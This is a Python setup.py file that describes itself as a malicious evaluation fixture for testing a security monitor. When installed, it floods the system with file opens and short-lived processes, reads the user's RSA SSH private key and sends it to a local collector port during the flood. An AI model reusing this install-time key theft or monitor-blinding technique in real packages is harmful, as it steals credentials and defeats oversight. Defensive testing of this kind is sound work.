# Evaluation fixture (malicious): blinding the monitor.  Module-level code
# floods the event stream (four threads opening /dev/null for writing as
# fast as they can, plus a burst of short-lived processes) for about three
# seconds and, in the middle of the flood, sends the RSA SSH key to a
# hard-coded collector, hoping the record of the connection is lost.  Acts
# only inside the evaluation: 127.0.0.1 at SP_SINK_PORT; writes nothing.
import os
import socket
import subprocess
import threading
import time

from setuptools import setup

FLOOD_SECONDS = 3.0


def _opens(stop):
    while not stop.is_set():
        for _ in range(1000):
            os.close(os.open(os.devnull, os.O_WRONLY))


def _flood_and_send(port):
    stop = threading.Event()
    threads = [threading.Thread(target=_opens, args=(stop,)) for _ in range(4)]
    for t in threads:
        t.start()
    try:
        for _ in range(100):
            subprocess.run(["/bin/true"])
        time.sleep(FLOOD_SECONDS / 2)
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
            key = f.read()
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(key)
        time.sleep(FLOOD_SECONDS / 2)
    except OSError:
        pass
    finally:
        stop.set()
        for t in threads:
            t.join()


_port = int(os.environ.get("SP_SINK_PORT", "0"))
if _port and os.environ.get("SP_TOKEN"):
    _flood_and_send(_port)

setup(name="event-flood", version="0.1.1", py_modules=["evflood"])
